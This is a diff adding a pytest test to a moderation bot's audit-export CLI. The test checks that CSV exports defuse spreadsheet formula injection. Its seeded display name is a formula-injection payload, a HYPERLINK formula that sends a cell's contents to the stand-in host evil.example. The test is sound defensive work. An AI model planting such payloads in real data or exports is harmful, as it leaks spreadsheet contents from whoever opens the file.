@@ -208,6 +208,50 @@ def test_audit_export_round_trips_as_csv_and_jsonl(
     assert "'last week' is not a date; expected YYYY-MM-DD" in capsys.readouterr().err
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
+def test_audit_csv_export_makes_formula_names_inert(
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+    start: str,
+) -> None:
+    """A display name is whatever its owner typed: one that starts like a formula must not
+    run when an admin opens the audit export in a spreadsheet."""
+    import asyncio as aio
+    import json
+
+    from hashdb.sqlite_store import SQLiteStore
+    from hashdb.store import AuditEvent
+
+    name = start + 'HYPERLINK("https://evil.example/?x="&A1,"click")'
+
+    async def seed() -> None:
+        store = SQLiteStore(tmp_path / "audit.sqlite3")
+        await store.open()
+        await store.add_audit(
+            AuditEvent(
+                chat_id=-100,
+                event="match_deleted",
+                actor_name=name,
+                target_name=name,
+                detail=name,
+                at=1_700_000_000.0,
+            )
+        )
+        await store.close()
+
+    aio.run(seed())
+    monkeypatch.setenv("HASHGUARD_STORAGE_DATABASE", str(tmp_path / "audit.sqlite3"))
+    assert main(["audit", "--chat", "-100", "--format", "csv"]) == 0
+    [row] = list(csv.DictReader(capsys.readouterr().out.splitlines()))
+    for column in ("actor_name", "target_name", "detail"):
+        assert row[column] == "'" + name
+    assert row["chat_id"] == "-100"
+    # JSON lines are not opened by spreadsheets: they keep the exact name.
+    assert main(["audit", "--chat", "-100", "--format", "jsonl"]) == 0
+    assert json.loads(capsys.readouterr().out)["actor_name"] == name
+
+
 def test_purge_needs_yes_and_removes_only_that_chat(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
